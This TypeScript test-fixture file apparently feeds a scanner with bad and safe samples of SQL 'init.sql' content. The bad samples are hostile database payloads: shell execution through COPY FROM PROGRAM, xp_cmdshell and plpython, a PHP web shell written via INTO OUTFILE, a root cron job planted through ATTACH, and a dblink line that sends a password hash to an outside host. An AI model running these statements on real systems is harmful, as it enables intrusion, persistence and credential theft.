import type { Sample } from './sample.ts';
import { evil, inFile } from './starting.ts';

function statement(name: string, bad: string, good?: string): Sample {
  return inFile(name, 'init.sql', bad, good);
}

/** Ways of a database to leave it. */
export const statements: readonly Sample[] = [
  statement('COPY FROM PROGRAM', `COPY t FROM PROGRAM '${evil}';\n`, 'COPY t FROM STDIN;\n'),
  statement(
    'DO block',
    `DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$;\n`,
    'DO $$ BEGIN PERFORM 1; END $$;\n',
  ),
  statement('format', `DO $$ BEGIN EXECUTE format('COPY t FROM %s %L', 'PROGRAM', 'id'); END $$;\n`),
  statement(
    'plpython',
    `CREATE FUNCTION f() RETURNS int AS $$ import os; os.system("id") $$ LANGUAGE plpython3u; SELECT f();\n`,
    'CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql; SELECT f();\n',
  ),
  statement(
    'C library',
    `CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT;\n`,
  ),
  statement('xp_cmdshell', `EXEC master..xp_cmdshell 'whoami';\n`),
  statement('xp_cmdshell hidden', `DECLARE @c varchar(99) = 'xp_cmd' + 'shell'; EXEC @c 'whoami';\n`),
  statement('sp_OACreate', `EXEC sp_OACreate 'wscript.shell', @s OUT;\n`),
  statement('into outfile', `SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/x.php';\n`),
  statement('load_extension', `SELECT load_extension('/tmp/x.so');\n`, 'SELECT abs(-1);\n'),
  statement(
    'ATTACH',
    `ATTACH DATABASE '/etc/cron.d/x' AS x; CREATE TABLE x.t(a); INSERT INTO x.t VALUES ('* * * * * root id');\n`,
  ),
  statement('lo_export', `SELECT lo_export(1, '/tmp/x.so');\n`),
  statement('psql backslash', `\\! ${evil}\n`, '\\timing on\nSELECT 1;\n'),
  statement('psql copy program', `\\copy t from program '${evil}'\n`),
  statement('sqlite shell', `.shell ${evil}\n`, '.mode csv\nSELECT 1;\n'),
  statement('mysql system', `system ${evil}\n`),
  statement('mysql comment', `/*!50000 SELECT 1 INTO OUTFILE '/tmp/x' */;\n`),
  statement('prepare', `SET @s = CONCAT('DROP ', 'DATABASE ', 'mysql'); PREPARE p FROM @s; EXECUTE p;\n`),
  statement('duckdb', `INSTALL shellfs FROM community; LOAD shellfs; SELECT * FROM read_csv('${evil} |');\n`),
  statement('clickhouse', `SELECT * FROM executable('x.sh', TabSeparated, 'a String');\n`),
  statement('bigquery js', `CREATE TEMP FUNCTION f() RETURNS INT64 LANGUAGE js AS "return 1"; SELECT f();\n`),
  statement(
    'postgres settings',
    `ALTER SYSTEM SET archive_command = '${evil}';\n`,
    "SET work_mem = '64MB';\n",
  ),
  statement(
    'dblink',
    `SELECT dblink_connect('host=198.51.100.7 user=x password=' || (SELECT passwd FROM pg_shadow LIMIT 1));\n`,
  ),
];
